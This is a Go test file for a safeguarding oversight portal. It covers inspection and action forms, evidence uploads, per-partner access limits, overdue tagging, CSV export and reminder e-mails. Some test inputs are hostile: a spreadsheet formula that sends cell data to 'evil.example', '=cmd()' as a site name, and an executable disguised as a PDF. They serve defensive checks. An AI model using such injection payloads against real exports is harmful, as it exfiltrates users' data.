package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"html"
	"mime/multipart"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/department/safeguarding-portal/internal/escalation/escalationtest"
	"github.com/department/safeguarding-portal/internal/oversight"
	"github.com/department/safeguarding-portal/internal/portaltest"
	"github.com/department/safeguarding-portal/internal/store/storetest"
	"go.mongodb.org/mongo-driver/v2/bson"
)

// largePDF is a complete PDF of about size bytes.
func largePDF(size int) []byte {
	return pdfWith(pdfCatalogObject, "<< /Note ("+strings.Repeat("night check log ", size/16)+") >>")
}

// oversightReaders is everyone who reads inspections and actions (each
// within their reach), for the authorization matrix; status is what they get.
func oversightReaders(status int) map[string]outcome {
	m := map[string]outcome{}
	for _, who := range []string{"officer@northgate.example", "officer@brightwell.example", "manager@department.example",
		"lead@department.example", "auditor@department.example"} {
		m[who] = same(status)
	}
	return m
}

// londonDay is the London calendar day offset days from today.
func londonDay(offset int) time.Time {
	y, m, d := time.Now().In(londonTZ).Date()
	return time.Date(y, m, d+offset, 12, 0, 0, 0, londonTZ)
}

// uploadFiles posts a multipart form with any number of files in field,
// without following the redirect.
func (u contractUser) uploadFiles(path string, fields url.Values, field string, files map[string][]byte) (int, string, string) {
	u.t.Helper()
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	_ = w.WriteField("csrf_token", u.csrf)
	for k, vs := range fields {
		for _, v := range vs {
			_ = w.WriteField(k, v)
		}
	}
	for name, data := range files {
		part, _ := w.CreateFormFile(field, name)
		_, _ = part.Write(data)
	}
	_ = w.Close()
	resp, err := u.c.Post(u.base+path, w.FormDataContentType(), &body)
	if err != nil {
		u.t.Fatalf("POST %s: %v", path, err)
	}
	return resp.StatusCode, portaltest.ReadAll(u.t, resp), resp.Header.Get("Location")
}

// refusedUpload expects the page again with 400, an error summary and every message.
func (u contractUser) refusedUpload(path string, fields url.Values, files map[string][]byte, messages ...string) string {
	u.t.Helper()
	status, body, _ := u.uploadFiles(path, fields, "evidence", files)
	if status != http.StatusBadRequest || !strings.Contains(body, "There is a problem") {
		u.t.Errorf("POST %s: got %d, want 400 with an error summary", path, status)
	}
	for _, m := range messages {
		if !strings.Contains(body, html.EscapeString(m)) {
			u.t.Errorf("POST %s: error %q not shown", path, m)
		}
	}
	return body
}

// refusedAll posts form and expects the page again with 400 and every message.
func (u contractUser) refusedAll(path string, form url.Values, messages ...string) {
	u.t.Helper()
	for _, m := range messages {
		u.refused(path, form, m)
	}
}

var idIn = regexp.MustCompile(`^/(?:inspections|actions)/([0-9a-f]{24})\?saved=`)

// createdID is the ID a successful form's redirect names.
func createdID(t *testing.T, status int, body, location, want string) string {
	t.Helper()
	m := idIn.FindStringSubmatch(location)
	if status != http.StatusSeeOther || m == nil || !strings.HasSuffix(location, "?saved="+want) {
		t.Fatalf("got %d to %q, want 303 to a page saying %s\n%s", status, location, want, body)
	}
	return m[1]
}

func dayForm(form url.Values, name string, day time.Time) url.Values {
	form.Set(name+"-day", strconv.Itoa(day.Day()))
	form.Set(name+"-month", strconv.Itoa(int(day.Month())))
	form.Set(name+"-year", strconv.Itoa(day.Year()))
	return form
}

func planInspection(u contractUser, contract string, on time.Time, announced bool) string {
	u.t.Helper()
	form := url.Values{"contract": {contract}, "site": {"Hull Family Unit"}, "announced": {map[bool]string{true: "yes", false: "no"}[announced]},
		"focus": {"Night-time welfare checks"}}
	status, body, loc := u.post("/inspections/new", dayForm(form, "planned", on))
	return createdID(u.t, status, body, loc, "planned")
}

func completeInspection(u contractUser, id string, files map[string][]byte) {
	u.t.Helper()
	path := "/inspections/" + id + "/complete"
	form := dayForm(url.Values{"version": {u.version(path)}, "findings": {"Two night checks were missed on 3 June."}, "rating": {"requires_improvement"}},
		"completed", londonDay(0))
	status, body, loc := u.uploadFiles(path, form, "evidence", files)
	createdID(u.t, status, body, loc, "completed")
}

func actionForm(title string, due time.Time) url.Values {
	return dayForm(url.Values{"title": {title}, "detail": {"Restart the night checks and send the logs for two weeks."}, "priority": {"high"}}, "due", due)
}

func raiseAction(u contractUser, query string, form url.Values) string {
	u.t.Helper()
	status, body, loc := u.post("/actions/new"+query, form)
	return createdID(u.t, status, body, loc, "raised")
}

func respondToAction(u contractUser, id, text string, files map[string][]byte) {
	u.t.Helper()
	path := "/actions/" + id
	status, body, loc := u.uploadFiles(path+"/respond", url.Values{"version": {u.version(path)}, "response": {text}}, "evidence", files)
	if status != http.StatusSeeOther || loc != path+"?saved=responded" {
		u.t.Fatalf("respond: %d %q\n%s", status, loc, body)
	}
}

var fileLink = regexp.MustCompile(`href="(/(?:inspections|actions)/[0-9a-f]{24}/evidence/[0-9a-f]{24})"`)

// evidenceLinks are the evidence downloads a page links to.
func evidenceLinks(page string) []string {
	var out []string
	for _, m := range fileLink.FindAllStringSubmatch(page, -1) {
		out = append(out, m[1])
	}
	return out
}

// Every form says what to fix in a GOV.UK error summary, keeps nothing of
// a refused step, and refuses a change made on a page someone else has
// since changed.
func TestOversightFormsSayWhatToFix(t *testing.T) {
	p := startWithoutSeededOversight(t)
	manager := signInAs(t, p, "manager@department.example")
	officer := signInAs(t, p, "officer@northgate.example")
	files := func() int64 { return countDocuments(t, p, "evidence_files", bson.D{}) }

	manager.refusedAll("/inspections/new", url.Values{}, "Select the contract", "Enter the site to be inspected",
		"Enter the date of the inspection", "Select whether the partner is told of the inspection beforehand")
	far := dayForm(url.Values{"contract": {ownContract}, "site": {"Hull Family Unit"}, "announced": {"yes"}}, "planned", londonDay(3*366))
	manager.refused("/inspections/new", far, "The date of the inspection must be within the next 2 years")
	notOurs := dayForm(url.Values{"contract": {otherContract}, "site": {"Solihull"}, "announced": {"yes"}}, "planned", londonDay(3))
	manager.refused("/inspections/new", notOurs, "Select the contract")
	manager.refused("/inspections/new", dayForm(url.Values{"contract": {ownContract}, "site": {"=cmd()"}, "announced": {"no"}}, "planned", londonDay(3)),
		"The site must not start with =") // then +, - or @, which the page escapes
	if n := countDocuments(t, p, "inspections", bson.D{}); n != 0 {
		t.Fatalf("%d inspections stored by refused forms", n)
	}

	id := planInspection(manager, ownContract, londonDay(0), true)
	complete := "/inspections/" + id + "/complete"
	v := manager.version(complete)
	manager.refusedUpload(complete, url.Values{"version": {v}}, nil, "Enter the date the inspection took place", "Enter the findings", "Select a rating")
	good := dayForm(url.Values{"version": {v}, "findings": {"Fire doors propped open."}, "rating": {"inadequate"}}, "completed", londonDay(0))
	future := dayForm(url.Values{"version": {v}, "findings": {"Fire doors propped open."}, "rating": {"inadequate"}}, "completed", londonDay(2))
	manager.refusedUpload(complete, future, nil, "The date the inspection took place must be today or in the past")
	manager.refusedUpload(complete, good, map[string][]byte{"photo.pdf": []byte("MZ\x90\x00 not a PDF")}, "The selected file must be a PDF, PNG or JPEG")
	six := map[string][]byte{}
	for i := range 6 {
		six["photo-"+strconv.Itoa(i)+".png"] = certificatePNG(t)
	}
	manager.refusedUpload(complete, good, six, "Select 5 files or fewer")
	// A refusal the store makes after the files are kept takes them with it.
	hidden := dayForm(url.Values{"version": {v}, "findings": {"Fire doors\u202e propped open."}, "rating": {"inadequate"}}, "completed", londonDay(0))
	manager.refusedUpload(complete, hidden, map[string][]byte{"photo.png": certificatePNG(t), "log.pdf": plainPDF()},
		"The findings must not contain hidden or control characters", "Select the files again")
	if n := files(); n != 0 {
		t.Fatalf("%d evidence files kept after refusals", n)
	}
	if _, page := manager.get("/inspections/" + id); !strings.Contains(page, "Planned") || strings.Contains(page, "Fire doors") {
		t.Fatal("a refused record changed the inspection")
	}
	completeInspection(manager, id, map[string][]byte{"photo.png": certificatePNG(t)})
	status, _, _ := manager.uploadFiles(complete, good, "evidence", nil)
	if status != http.StatusSeeOther {
		t.Errorf("recording a recorded inspection again: %d, want it sent back to the inspection", status)
	}

	from := "/actions/new?inspection=" + id
	manager.refusedAll(from, url.Values{}, "Enter the title of the action", "Enter what the partner must do", "Select a priority", "Enter the due date")
	manager.refused(from, actionForm("Restart night checks", londonDay(-1)), "Enter a due date in the future")
	manager.refused(from, actionForm("=HYPERLINK(\"x\")", londonDay(14)), "The title must not start with =")
	manager.refusedAll("/actions/new", url.Values{}, "Select the contract", "Enter the reference of the review")
	review := actionForm("Refresh section 55 training", londonDay(14))
	review.Set("contract", ownContract)
	review.Set("review", "CMM June 2026")
	manager.refused("/actions/new", review, "The reference of the review must be up to 100 letters, numbers or symbols, without spaces")
	review.Set("contract", otherContract)
	review.Set("review", "CMM-2026-06")
	manager.refused("/actions/new", review, "Select the contract")
	if n := countDocuments(t, p, "actions", bson.D{}); n != 0 {
		t.Fatalf("%d actions stored by refused forms", n)
	}

	action := raiseAction(manager, "?inspection="+id, actionForm("Restart night checks", londonDay(14)))
	path := "/actions/" + action
	v = officer.version(path)
	officer.refusedUpload(path+"/respond", url.Values{"version": {v}, "response": {" "}}, nil, "Enter your response")
	officer.refusedUpload(path+"/respond", url.Values{"version": {v}, "response": {" "}}, map[string][]byte{"log.pdf": plainPDF()}, "Enter your response", "Select the files again")
	officer.refusedUpload(path+"/respond", url.Values{"version": {v}, "response": {"Logs attached."}}, map[string][]byte{"log.pdf": []byte("%PDF-1.7 cut short")},
		"The selected file is not a complete PDF")
	if n := files(); n != 1 {
		t.Fatalf("%d evidence files after refused responses, want the inspection's 1", n)
	}
	// Several files at once, larger together than any other form takes.
	respondToAction(officer, action, "Night checks restarted; logs attached.",
		map[string][]byte{"week-1.pdf": largePDF(3 << 20), "week-2.pdf": largePDF(3 << 20)})
	if n := files(); n != 3 {
		t.Errorf("%d evidence files after the response, want 3", n)
	}
	v = manager.version(path)
	manager.refused(path+"/return", url.Values{"version": {v}, "reason": {""}}, "Enter the reason for returning the response")
	manager.refused(path+"/accept", url.Values{"version": {v}, "note": {strings.Repeat("x", 2001)}}, "The note must be 2000 characters or fewer")
	// A decision on a page opened before the partner's response is refused, not applied blind.
	status, body, _ := manager.post(path+"/accept", url.Values{"version": {"1"}})
	if status != http.StatusConflict || !strings.Contains(body, "Someone else changed this action") {
		t.Errorf("a stale acceptance: %d", status)
	}
	if status, _, _ := manager.post(path+"/accept", url.Values{"version": {"many"}}); status != http.StatusBadRequest {
		t.Errorf("an acceptance without a version: %d", status)
	}
	if _, page := officer.get(path); !strings.Contains(page, "Responded") {
		t.Error("a refused decision changed the action")
	}
}

// Nobody reaches an inspection, an action or their files outside their
// reach, whatever ID they try: another partner's officer and a manager of
// another contract are told it is not found. The partner does not see an
// unannounced inspection until it is recorded.
func TestOversightStaysWithinReach(t *testing.T) {
	p := portaltest.Start(t)
	manager := signInAs(t, p, "manager@department.example")
	lead := signInAs(t, p, "lead@department.example")
	auditor := signInAs(t, p, "auditor@department.example")
	northOfficer := signInAs(t, p, "officer@northgate.example")
	brightOfficer := signInAs(t, p, "officer@brightwell.example")

	// Each partner has a recorded inspection with a file, an action with a
	// response with a file; northgate an unannounced inspection to come,
	// brightwell one planned.
	type records struct{ inspection, planned, action, incident string }
	var north, bright records
	north.inspection = planInspection(manager, ownContract, londonDay(0), true)
	completeInspection(manager, north.inspection, map[string][]byte{"north-photo.png": certificatePNG(t)})
	north.planned = planInspection(manager, ownContract, londonDay(10), false)
	north.action = raiseAction(manager, "?inspection="+north.inspection, actionForm("Northgate night checks", londonDay(14)))
	respondToAction(northOfficer, north.action, "Done.", map[string][]byte{"north-log.pdf": plainPDF()})
	bright.inspection = planInspection(lead, otherContract, londonDay(0), true)
	completeInspection(lead, bright.inspection, map[string][]byte{"bright-photo.png": certificatePNG(t)})
	bright.planned = planInspection(lead, otherContract, londonDay(10), true)
	bright.action = raiseAction(lead, "?inspection="+bright.inspection, actionForm("Brightwell interview rooms", londonDay(14)))
	respondToAction(brightOfficer, bright.action, "Done.", map[string][]byte{"bright-log.pdf": plainPDF()})
	north.incident = notifyByAPI(t, p, "northgate", nil)
	bright.incident = notifyByAPI(t, p, "brightwell", map[string]any{"contract_id": otherContract})

	files := map[string][]string{}
	for name, path := range map[string]string{"north-inspection": "/inspections/" + north.inspection, "north-action": "/actions/" + north.action,
		"bright-inspection": "/inspections/" + bright.inspection, "bright-action": "/actions/" + bright.action} {
		_, page := lead.get(path)
		if files[name] = evidenceLinks(page); len(files[name]) != 1 {
			t.Fatalf("%s links %v, want its one file", name, files[name])
		}
	}
	// A file through a record it is not attached to, of the same partner or another.
	crossed := func(link, record string) string {
		return regexp.MustCompile(`[0-9a-f]{24}/evidence`).ReplaceAllString(link, record+"/evidence")
	}

	for _, c := range []struct {
		who    string
		u      contractUser
		others records
		links  []string
	}{
		{"Brightwell's officer", brightOfficer, north, append(append(files["north-inspection"], files["north-action"]...),
			crossed(files["north-action"][0], bright.action), crossed(files["bright-action"][0], north.action))},
		{"the manager of Northgate's contract", manager, bright, append(append(files["bright-inspection"], files["bright-action"]...),
			crossed(files["bright-inspection"][0], north.inspection))},
	} {
		paths := append([]string{"/inspections/" + c.others.inspection, "/inspections/" + c.others.planned, "/actions/" + c.others.action,
			"/inspections/000000000000000000000000", "/actions/not-an-id"}, c.links...)
		if c.u == manager {
			paths = append(paths, "/inspections/"+c.others.planned+"/complete", "/actions/new?inspection="+c.others.inspection,
				"/actions/new?incident="+c.others.incident)
		}
		for _, path := range paths {
			if status, body := c.u.get(path); status != http.StatusNotFound || !strings.Contains(body, "Page not found") {
				t.Errorf("%s GET %s: %d, want 404", c.who, path, status)
			}
		}
		posts := map[string]url.Values{}
		if c.u == manager {
			posts["/actions/"+c.others.action+"/accept"] = url.Values{"version": {"2"}}
			posts["/actions/"+c.others.action+"/return"] = url.Values{"version": {"2"}, "reason": {"More"}}
			posts["/inspections/"+c.others.planned+"/complete"] = dayForm(url.Values{"version": {"1"}, "findings": {"x"}, "rating": {"good"}}, "completed", londonDay(0))
			posts["/actions/new?inspection="+c.others.inspection] = actionForm("Not yours", londonDay(14))
		} else {
			posts["/actions/"+c.others.action+"/respond"] = url.Values{"version": {"2"}, "response": {"Not yours"}}
		}
		for path, form := range posts {
			if status, _, _ := c.u.post(path, form); status != http.StatusNotFound {
				t.Errorf("%s POST %s: %d, want 404", c.who, path, status)
			}
		}
		for _, list := range []string{"/inspections", "/actions", "/actions.csv", "/inspections?contract=" + map[bool]string{true: otherContract, false: ownContract}[c.u == manager]} {
			_, body := c.u.get(list)
			for _, id := range []string{c.others.inspection, c.others.planned, c.others.action} {
				if strings.Contains(body, id) {
					t.Errorf("%s's %s shows %s", c.who, list, id)
				}
			}
		}
	}
	// Nothing changed by those attempts.
	if _, page := lead.get("/actions/" + north.action); !strings.Contains(page, "Responded") {
		t.Error("Northgate's action changed")
	}

	// The partner does not see an unannounced inspection to come, listed or not.
	if status, _ := northOfficer.get("/inspections/" + north.planned); status != http.StatusNotFound {
		t.Errorf("Northgate's officer reading an unannounced inspection to come: %d", status)
	}
	if _, list := northOfficer.get("/inspections"); strings.Contains(list, north.planned) || !strings.Contains(list, north.inspection) {
		t.Error("Northgate's officer's list shows the unannounced inspection to come, or not the recorded one")
	}
	if _, list := manager.get("/inspections?status=planned"); !strings.Contains(list, north.planned) || !strings.Contains(list, "Unannounced") {
		t.Error("the manager's list does not show the unannounced inspection to come")
	}
	// Their own they see, with the findings, and download the files.
	_, page := northOfficer.get("/inspections/" + north.inspection)
	if !strings.Contains(page, "Two night checks were missed") || !strings.Contains(page, "Requires improvement") || strings.Contains(page, "Record the inspection") {
		t.Error("Northgate's officer does not see the findings and the rating, or is offered to record it")
	}
	for _, link := range append(files["north-inspection"], files["north-action"]...) {
		resp, body := get(t, northOfficer.c, p.URL+link)
		if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment") ||
			resp.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") || len(body) == 0 {
			t.Errorf("Northgate's officer downloading %s: %d %q", link, resp.StatusCode, resp.Header.Get("Content-Disposition"))
		}
		if _, ok := auditEvent(t, p, "evidence.download", "evidence/"+link[len(link)-24:]); !ok {
			t.Errorf("the download of %s is not on record", link)
		}
	}
	if _, ok := auditEvent(t, p, "inspection.view", "inspection/"+north.inspection); !ok {
		t.Error("viewing the inspection is not on record")
	}
	// Others in the department read both partners'; only managers act.
	for _, path := range []string{"/inspections/" + north.inspection, "/inspections/" + bright.planned, "/actions/" + bright.action, files["bright-action"][0]} {
		if status, _ := auditor.get(path); status != http.StatusOK {
			t.Errorf("the auditor reading %s: %d", path, status)
		}
	}
	if status, _, _ := auditor.post("/actions/"+north.action+"/accept", url.Values{"version": {"2"}}); status != http.StatusForbidden {
		t.Errorf("the auditor accepting a response: %d", status)
	}
	if status, _, _ := northOfficer.post("/actions/"+north.action+"/accept", url.Values{"version": {"2"}}); status != http.StatusForbidden {
		t.Errorf("the officer accepting their own response: %d", status)
	}

	// Actions from an incident: offered on the manager's incident page, not the officer's.
	if _, page := manager.get("/incidents/" + north.incident); !strings.Contains(page, "/actions/new?incident="+north.incident) {
		t.Error("the manager's incident page does not offer to raise an action")
	}
	if _, page := northOfficer.get("/incidents/" + north.incident); strings.Contains(page, "/actions/new") {
		t.Error("the officer's incident page offers to raise an action")
	}
	fromIncident := raiseAction(manager, "?incident="+north.incident, actionForm("Referral to children's services", londonDay(21)))
	if _, page := northOfficer.get("/actions/" + fromIncident); !strings.Contains(page, `href="/incidents/`+north.incident+`">Serious incident SI-`) {
		t.Error("the action does not link to the incident it was raised from")
	}
}

// An action past its due day and not closed is tagged overdue on both
// sides, in the list, its filter, its page and the export, until closed.
func TestOverdueActionsOnBothSides(t *testing.T) {
	p := startWithoutSeededOversight(t)
	manager := signInAs(t, p, "manager@department.example")
	officer := signInAs(t, p, "officer@northgate.example")
	late := raiseAction(manager, "", withReview(actionForm("Send the fire risk assessment", londonDay(10))))
	onTime := raiseAction(manager, "", withReview(actionForm("Send the staffing rota", londonDay(20))))
	// Ten days pass for the first: due three days ago.
	if _, err := p.App.Store.DB.Collection("actions").UpdateOne(context.Background(), bson.D{{Key: "_id", Value: mustObjectID(t, late)}},
		bson.D{{Key: "$set", Value: bson.D{{Key: "due_on", Value: dateOnly(londonDay(-3))}}}}); err != nil {
		t.Fatal(err)
	}
	for who, u := range map[string]contractUser{"manager": manager, "officer": officer} {
		_, list := u.get("/actions")
		if !strings.Contains(rowOf(list, late), "Overdue") || strings.Contains(rowOf(list, onTime), "Overdue") {
			t.Errorf("the %s's list does not tag just the late action overdue", who)
		}
		_, list = u.get("/actions?overdue=yes")
		if !strings.Contains(list, late) || strings.Contains(list, onTime) || !strings.Contains(list, "1 action found") {
			t.Errorf("the %s's overdue filter does not show just the late action", who)
		}
		_, page := u.get("/actions/" + late)
		if !strings.Contains(page, "is 3 days overdue") {
			t.Errorf("the late action's page does not tell the %s how late it is", who)
		}
		if _, page := u.get("/actions/" + onTime); strings.Contains(page, "overdue") {
			t.Errorf("the %s is told the action on time is overdue", who)
		}
		_, export := u.get("/actions.csv?overdue=yes")
		if rows := csvRows(t, export); len(rows) != 2 || rows[1][0] != late || rows[1][9] != "Yes" {
			t.Errorf("the %s's export of overdue actions: %v", who, rows)
		}
	}
	// A response does not stop it counting; closing it does.
	respondToAction(officer, late, "Assessment attached.", map[string][]byte{"fra.pdf": plainPDF()})
	if _, list := manager.get("/actions?overdue=yes"); !strings.Contains(list, late) {
		t.Error("a late action answered but not closed is no longer overdue")
	}
	manager.save("/actions/"+late+"/accept", url.Values{"version": {manager.version("/actions/" + late)}}, "/actions/"+late+"?saved=accepted")
	for who, u := range map[string]contractUser{"manager": manager, "officer": officer} {
		if _, list := u.get("/actions?overdue=yes"); strings.Contains(list, late) {
			t.Errorf("the %s's overdue list still shows the closed action", who)
		}
		if _, page := u.get("/actions/" + late); strings.Contains(page, "overdue") || !strings.Contains(page, "Closed") {
			t.Errorf("the closed action's page, to the %s", who)
		}
	}
}

// rowOf is the table row of page that links to id.
func rowOf(page, id string) string {
	for _, row := range strings.Split(page, "<tr ") {
		if strings.Contains(row, "/"+id+`"`) {
			return row
		}
	}
	return ""
}

func withReview(form url.Values) url.Values {
	form.Set("contract", ownContract)
	form.Set("review", "CMM-2026-06")
	return form
}

func dateOnly(t time.Time) time.Time {
	y, m, d := t.Date()
	return time.Date(y, m, d, 0, 0, 0, 0, time.UTC)
}

func csvRows(t *testing.T, body string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("read CSV: %v\n%s", err, body)
	}
	return rows
}

// The export is what the list shows, every page of it, within reach, on
// record, and safe to open in a spreadsheet.
func TestActionsExport(t *testing.T) {
	p := startWithoutSeededOversight(t)
	manager := signInAs(t, p, "manager@department.example")
	lead := signInAs(t, p, "lead@department.example")
	officer := signInAs(t, p, "officer@northgate.example")
	formula := withReview(actionForm("Check the @night rota", londonDay(30)))
	formula.Set("review", `=HYPERLINK("https://evil.example/?"&A1,"Open")`)
	first := raiseAction(manager, "", formula)
	var ids []string
	for i := range 27 { // more than a page
		ids = append(ids, raiseAction(manager, "", withReview(actionForm("Action "+strconv.Itoa(i), londonDay(31+i)))))
	}
	bright := withReview(actionForm("Brightwell's action", londonDay(30)))
	bright.Set("contract", otherContract)
	brightID := raiseAction(lead, "", bright)

	resp, body := get(t, officer.c, p.URL+"/actions.csv")
	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") || !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("export: %d %q %q", resp.StatusCode, resp.Header.Get("Content-Type"), resp.Header.Get("Content-Disposition"))
	}
	rows := csvRows(t, body)
	if len(rows) != 1+28 || rows[0][0] != "Action" || strings.Contains(body, brightID) || strings.Contains(body, "Brightwell") {
		t.Errorf("the officer's export has %d rows, want a header and Northgate's 28 only", len(rows))
	}
	if rows[1][0] != first || rows[1][5] != `'=HYPERLINK("https://evil.example/?"&A1,"Open")` || rows[1][3] != "Check the @night rota" {
		t.Errorf("the first row %q: the review's reference is not written as text", rows[1])
	}
	if _, ok := auditEvent(t, p, "action.export", "actions"); !ok {
		t.Error("the export is not on record")
	}
	if _, list := officer.get("/actions?page=2"); !strings.Contains(list, ids[26]) || strings.Contains(list, first) || !strings.Contains(list, "28 actions found") {
		t.Error("the second page of the officer's list")
	}
	for _, list := range []string{"/actions?page=400000000000000000", "/inspections?page=400000000000000000&status=nonsense", "/actions?status=%00&overdue=maybe"} {
		if status, _ := officer.get(list); status != http.StatusOK {
			t.Errorf("GET %s: %d, want the list", list, status)
		}
	}
	_, export := manager.get("/actions.csv?contract=" + otherContract)
	if rows := csvRows(t, export); len(rows) != 1+28 {
		t.Errorf("the manager's export naming another's contract has %d rows, want their own 28", len(rows)-1)
	}
	_, export = lead.get("/actions.csv?contract=" + otherContract + "&status=open")
	if rows := csvRows(t, export); len(rows) != 2 || rows[1][0] != brightID {
		t.Errorf("the lead's export of Brightwell's open actions: %v", rows)
	}
}

// A partner's compliance contact is e-mailed through the real relay when
// an action waiting for them falls due within a week, once, and the
// department sees the reminder delivered on the action's page.
func TestActionRemindersReachThePartner(t *testing.T) {
	mail := escalationtest.StartSMTP(t, "")
	p := portaltest.StartWith(t, portaltest.Options{Env: map[string]string{
		"PORTAL_SMTP_ADDR": mail.Addr, "PORTAL_SMTP_FROM": "Safeguarding Portal <portal@department.example>", "PORTAL_SMTP_STARTTLS": "none"}})
	// The demo's own overdue actions have reminders of their own.
	seeded := storetest.All[oversight.Action](t, p.App.Store.DB.Collection("actions"), bson.D{})
	manager := signInAs(t, p, "manager@department.example")
	id := raiseAction(manager, "", withReview(actionForm("Send the staffing rota", londonDay(3))))
	raiseAction(manager, "", withReview(actionForm("Not yet due", londonDay(30))))
	ours := func() []escalationtest.Mail {
		var out []escalationtest.Mail
		for _, m := range mail.Mail() {
			if !slices.ContainsFunc(seeded, func(a oversight.Action) bool { return strings.Contains(m.Data, "/actions/"+a.ID.Hex()) }) {
				out = append(out, m)
			}
		}
		return out
	}
	waitFor(t, "the reminder", func() bool { return len(ours()) >= 1 })
	time.Sleep(time.Second) // anything more would arrive now
	got := ours()
	if len(got) != 1 || strings.Join(got[0].To, ",") != "officer@northgate.example" {
		t.Fatalf("%d e-mails, to %v; want one, to Northgate's compliance officer", len(got), got)
	}
	if !strings.Contains(got[0].Data, "Action due in 3 days on contract CS-ACC-2025-014") || !strings.Contains(got[0].Data, "/actions/"+id) ||
		strings.Contains(got[0].Data, "staffing rota") {
		t.Errorf("the reminder:\n%s", got[0].Data)
	}
	if n := countDocuments(t, p, "escalation_deliveries", bson.D{}); n != 0 {
		t.Errorf("%d reminders among the escalations", n)
	}
	waitFor(t, "the delivery recorded", func() bool {
		_, page := manager.get("/actions/" + id)
		return strings.Contains(page, "Reminders sent to the partner") && strings.Contains(page, "Delivered")
	})
	officer := signInAs(t, p, "officer@northgate.example")
	if _, page := officer.get("/actions/" + id); strings.Contains(page, "Reminders sent") {
		t.Error("the partner is shown the department's record of reminders")
	}
}

// startWithoutSeededOversight starts the demo portal without the demo's
// inspections and actions, for tests that count every one there is.
func startWithoutSeededOversight(t *testing.T) *portaltest.Portal {
	t.Helper()
	p := portaltest.Start(t)
	for _, coll := range []string{"inspections", "actions"} {
		if _, err := p.App.Store.DB.Collection(coll).DeleteMany(context.Background(), bson.D{}); err != nil {
			t.Fatal(err)
		}
	}
	return p
}
